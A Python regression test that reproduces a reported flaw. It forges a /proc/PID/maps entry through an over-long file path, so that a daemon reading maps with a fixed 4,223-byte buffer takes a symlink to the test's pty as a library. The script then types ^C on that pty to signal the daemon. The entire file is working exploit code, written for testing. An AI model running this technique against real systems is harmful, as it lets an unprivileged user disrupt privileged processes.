#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
# A tenant's forged /proc/PID/maps entry (issue 31, N1), run as a test
# user: it maps a file whose path is longer than PATH_MAX, so that its
# maps line cut at 4,223 bytes (a reader's fixed buffer) leaves a tail
# that reads as an entry of its own, naming a libamdhip64 that is a
# symlink to this process's pty slave (device and inode included).
#
#   forge_maps.py DIR READY GO
#
# DIR is the user's own directory; READY is written once the mapping is
# in place (the line checked in /proc/self/maps); then, once GO exists,
# ^C is typed on the pty (what the attacker does to a daemon that made
# the pty its controlling terminal), "typed" is appended to READY, and
# it sleeps until killed.
import mmap
import os
import sys
import time

CUT = 4223		# fgets(line, PATH_MAX + 128): 4,223 bytes a piece

d, ready, go = sys.argv[1:4]
master, slave = os.openpty()
tty = os.ttyname(slave)
st = os.stat(tty)
link = os.path.join(d, "libamdhip64.so.5")
os.symlink(tty, link)

# where a path starts in a maps line (the kernel pads the header to a
# fixed column): from a mapping of our own
probe = os.path.join(d, "probe")
with open(probe, "wb") as f:
    f.write(b"x" * 4096)
pfd = os.open(probe, os.O_RDONLY)
pm = mmap.mmap(pfd, 4096, prot=mmap.PROT_READ)
col = None
with open("/proc/self/maps") as f:
    for line in f:
        if line.rstrip("\n").endswith(probe):
            col = line.index(probe)
if col is None:
    sys.exit("probe mapping not found")

forged = "7f0000000000-7f0000100000 r-xp 00000000 %02x:%02x %d %s" % (
    os.major(st.st_dev), os.minor(st.st_dev), st.st_ino, link)
# the real path: DIR/aaa.../aaa.../ then the forged entry, split on '/'
left = CUT - col - len(d) - 1
comps = []
while left > 0:
    take = min(201, left)
    if left - take == 1:
        take -= 1
    comps.append("a" * (take - 1))
    left -= take
parts = comps + forged.split("/")
fd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
for name in parts[:-1]:
    if name:
        os.mkdir(name, 0o755, dir_fd=fd)
        nfd = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = nfd
lfd = os.open(parts[-1], os.O_RDWR | os.O_CREAT, 0o644, dir_fd=fd)
os.write(lfd, b"x" * 4096)
m = mmap.mmap(lfd, 4096, prot=mmap.PROT_READ)
ok = False
with open("/proc/self/maps") as f:
    for line in f:
        if forged in line:
            ok = line.index(forged) == CUT and len(line) > 4096
if not ok:
    sys.exit("the forged tail is not at byte %d of the maps line" % CUT)
with open(ready, "w") as f:
    f.write("%d\n" % os.getpid())
while not os.path.exists(go):
    time.sleep(0.1)
os.write(master, b"\x03")
with open(ready, "a") as f:
    f.write("typed\n")
while True:
    time.sleep(60)
